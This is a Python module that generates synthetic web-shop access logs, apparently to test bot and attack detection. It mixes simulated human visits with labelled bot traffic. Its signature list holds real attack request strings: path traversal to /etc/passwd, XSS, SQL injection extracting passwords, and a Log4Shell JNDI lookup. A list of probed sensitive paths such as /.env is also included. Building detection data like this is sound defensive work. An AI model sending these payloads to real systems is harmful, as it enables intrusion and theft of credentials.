"""Visits to a shop: people who go from page to page in the usual order and at a person's pace, some of them logged in; and bots.

A visit follows the links of a small site. Lines are of the combined format. Bots are told from people by order (scanners, bots that
take pages by chance), by pace (the metronomic one), by number (clients that ask too often) or by what they say of themselves.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from functools import partial
from random import Random

from .item import MINUTE, SECOND, Incident, Incidents, Item, Label, arising, ordered, poisson
from .lines import access
from .world import DESKTOPS, MOBILES, agent

__all__ = ["web"]

_SITE: dict[str, tuple[tuple[str, int], ...]] = {  # page → where one goes from there, with weights; "" is away
    "/": (("/products", 6), ("/search?q={q}", 3), ("/about", 1), ("/login", 2), ("", 1)),
    "/products": (("/products/{n}", 8), ("/search?q={q}", 1), ("", 1)),
    "/products/{n}": (("/products/{n}/reviews", 3), ("/basket", 3), ("/products", 4), ("", 2)),
    "/products/{n}/reviews": (("/basket", 2), ("/products/{n}", 3), ("", 1)),
    "/search?q={q}": (("/products/{n}", 8), ("/search?q={q}", 2), ("", 2)),
    "/basket": (("/checkout", 5), ("/products", 3), ("", 2)),
    "/checkout": (("/checkout/address", 9), ("", 1)),
    "/checkout/address": (("/checkout/payment", 9), ("", 1)),
    "/checkout/payment": (("/checkout/done", 9), ("", 1)),
    "/checkout/done": (("/", 2), ("", 8)),
    "/about": (("/", 5), ("", 5)),
    "/login": (("/account", 8), ("/", 1), ("", 1)),
    "/account": (("/products", 5), ("/account/orders", 4), ("", 1)),
    "/account/orders": (("/account", 3), ("/products", 4), ("", 3)),
}
_BY_NAME = ("/account", "/account/orders", "/checkout", "/checkout/address", "/checkout/payment", "/checkout/done")  # of who is logged in
_WORDS = ("teapot", "blue+teapot", "lamp", "garden+chair", "trade+union+history", "java+script+book")
_PEOPLE, _SHOP = 400, "https://shop.example"
_PER_VISIT = 6.4  # pages, on the average
_PATHS = (
    "/.env", "/admin/", "/backup.zip", "/config.json", "/db.sql", "/phpmyadmin/", "/server-status", "/actuator/health", "/cgi-bin/test",
    "/old/", "/test/", "/staging/", "/api/v1/users", "/api/swagger.json", "/console/", "/manager/html", "/solr/", "/jenkins/", "/owa/",
    "/remote/login", "/vendor/phpunit/", "/telescope/requests", "/wp-content/", "/wp-json/", "/xmlrpc.php", "/info.php", "/shell.php",
)  # fmt: skip
_SIGNATURES = (
    "/download?file=../../../../etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/products?id=1%27%20or%20%271%27=%271",
    "/products?id=1+UNION+SELECT+name,password+FROM+users", "/.git/config", "/wp-login.php", "/?x=${jndi:ldap://192.0.2.1/a}",
)  # fmt: skip
_IMPOSSIBLE = (
    "Mozilla/4.0 (compatible; MSIE 6.0; Linux x86_64)",
    "Mozilla/5.0 (Windows NT 7.5; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Android 13) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; MSIE 11.0) Edge/99.0 Chrome/999.0.0.0",
)
_MOST = 60  # pages of a visit
_Line = Callable[..., Item]


class _Shop:
    """Who comes to the site: regulars with a name, an address and an agent each, and strangers; `since` when a name was logged in first."""

    def __init__(self, rng: Random) -> None:
        self.rng, self.incidents = rng, Incidents()
        self.since: dict[str, int] = {}
        self.regulars = [(f"customer{n:03}", f"198.18.{n // 250}.{n % 250 + 1}", self.agent()) for n in range(_PEOPLE)]

    def agent(self) -> str:
        """Some usual user agent."""
        return agent(self.rng.choice(DESKTOPS + MOBILES), 0)

    def stranger(self) -> str:
        """An address of someone who has no name."""
        return f"198.19.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"

    def asked(self, time: int, address: str, target: str, device: str, *, user: str = "", referrer: str = "", label: Label | None = None,
              status: int | None = None) -> Item:  # fmt: skip
        """A request for a page."""
        rng = self.rng
        answer = rng.choices((200, 304, 404), (90, 9, 1))[0] if status is None else status
        return Item("web.access", time, access(time, address, user, f"GET {target} HTTP/1.1", answer,
                                               153 if answer == 404 else rng.randrange(300, 40_000), referrer, device), label)  # fmt: skip

    def target(self, page: str) -> str:
        """A page with its number or words filled in."""
        return page.format(n=self.rng.randrange(1, 200), q=self.rng.choice(_WORDS))


def web(rng: Random, start: int, minutes: int, *, rate: float = 120) -> Iterator[Item]:
    """Items of `minutes` minutes from `start` (ns UTC) on, about `rate` a minute beside those of bots, tagged `web.access`."""
    shop = _Shop(rng)
    incidents: dict[Incident, float] = {partial(make, shop): often for make, often in _OFTEN.items()}
    return ordered(_minutes(shop, incidents, start, minutes, rate), start, start + minutes * MINUTE)


def _minutes(shop: _Shop, incidents: dict[Incident, float], start: int, minutes: int,
             rate: float) -> Iterator[tuple[int, list[Item]]]:  # fmt: skip
    rng = shop.rng
    for begin in range(start, start + minutes * MINUTE, MINUTE):
        items = [item for _ in range(poisson(rng, rate / _PER_VISIT)) for item in _visit(shop, begin + rng.randrange(MINUTE))]
        items += arising(rng, incidents, begin, MINUTE)
        yield begin + MINUTE, items


def _visit(shop: _Shop, time: int) -> Iterator[Item]:
    """A person's visit, half of the time of a regular who may log in."""
    rng = shop.rng
    name, address, device = rng.choice(shop.regulars) if rng.random() < 0.5 else ("", shop.stranger(), shop.agent())
    line = partial(shop.asked, address=address, device=device)
    yield from _walk(shop, time, line, name, lambda: int(rng.lognormvariate(2.2, 0.9) * SECOND))


def _walk(shop: _Shop, time: int, line: _Line, name: str, gap: Callable[[], int], least: int = 1) -> Iterator[Item]:
    """From page to page by the links, `least` pages at least, with a gap between (ns)."""
    rng, page, before, user = shop.rng, "/", "", ""
    for n in range(_MOST):
        target = shop.target(page)
        if name and page in _BY_NAME:
            user = name
            shop.since[name] = min(time, shop.since.get(name, time))
        yield line(time, target=target, user=user, referrer=before)
        links = [(one, weight) for one, weight in _SITE[page] if (one or n >= least) and (name or one not in ("/login", *_BY_NAME[:2]))]
        page = rng.choices([one for one, _ in links], [weight for _, weight in links])[0] if links else "/"
        if not page:
            return
        before, time = _SHOP + target, time + gap()


# --- bots, and what else must be found ---


def _bot(kind: str, shop: _Shop) -> _Line:
    """Makes the requests of a bot, each labelled."""
    address = shop.stranger()
    return partial(shop.asked, address=address, device=shop.agent(), label=shop.incidents.label(kind, address))


def _scanner(shop: _Shop, time: int) -> Iterator[Item]:
    """One client asks for much that is not there."""
    rng, line = shop.rng, _bot("scanner", shop)
    for n in range(rng.randrange(60, 200)):
        yield line(time, target=f"{rng.choice(_PATHS)}{n if n >= len(_PATHS) else ''}", status=rng.choices((404, 403, 200), (90, 6, 4))[0])
        time += rng.randrange(SECOND // 5, 2 * SECOND)


def _violator(shop: _Shop, time: int) -> Iterator[Item]:
    """One client asks for the same few pages far too often."""
    rng, line = shop.rng, _bot("request_rate", shop)
    for _ in range(rng.randrange(400, 900)):
        yield line(time, target=shop.target("/products/{n}"), status=200)
        time += rng.randrange(SECOND // 50, SECOND // 2)


def _attacker(shop: _Shop, time: int) -> Iterator[Item]:
    """One client tries known holes."""
    rng, line = shop.rng, _bot("web_signature", shop)
    for target in rng.sample(_SIGNATURES, rng.randrange(1, 5)):
        yield line(time, target=target, status=404)
        time += rng.randrange(SECOND, 20 * SECOND)


def _pretender(shop: _Shop, time: int) -> Iterator[Item]:
    """A visit with a browser that there cannot be."""
    rng, line = shop.rng, _bot("impossible_browser", shop)
    yield from _walk(shop, time, partial(line, device=rng.choice(_IMPOSSIBLE)), "", lambda: int(rng.lognormvariate(2.2, 0.9) * SECOND))


def _metronome(shop: _Shop, time: int) -> Iterator[Item]:
    """A bot that follows the links like people, at equal intervals."""
    rng, line = shop.rng, _bot("metronomic_bot", shop)
    every = rng.randrange(2 * SECOND, 6 * SECOND)
    return _walk(shop, time, line, "", lambda: every + rng.randrange(SECOND // 50), least=25)


def _by_chance(kind: str, low: float, high: float) -> Callable[[_Shop, int], Iterator[Item]]:
    """Makes bots that take pages by chance, with gaps from `low` to `high` seconds."""

    def made(shop: _Shop, time: int) -> Iterator[Item]:
        rng, line = shop.rng, _bot(kind, shop)
        for _ in range(rng.randrange(20, 50)):
            yield line(time, target=shop.target(rng.choice(tuple(_SITE))))
            time += int(rng.uniform(low, high) * SECOND)

    return made


def _new_agent(shop: _Shop, time: int) -> Iterator[Item]:
    """Somebody uses the session of a regular who was here before, from the same address, with a tool of another kind."""
    seen = [one for one in shop.regulars if shop.since.get(one[0], time) < time]
    if not seen:
        return
    rng, (name, address, _) = shop.rng, shop.rng.choice(seen)
    line = partial(shop.asked, address=address, device="Mozilla/5.0 (X11; FreeBSD amd64; rv:115.0) Gecko/20100101 Firefox/115.0",
                   label=shop.incidents.label("new_user_agent", name))  # fmt: skip
    for page in ("/account", "/account/orders", "/products", "/account"):
        yield line(time, target=page, user=name, status=200)
        time += rng.randrange(3 * SECOND, 40 * SECOND)


_OFTEN: dict[Callable[[_Shop, int], Iterable[Item]], float] = {
    _scanner: 10, _violator: 8, _attacker: 20, _pretender: 12, _metronome: 10, _new_agent: 10,
    _by_chance("random_bot", 0.3, 3): 8, _by_chance("slow_bot", 5, 60): 8,
}  # fmt: skip
"""How often a day something begins, on the average."""
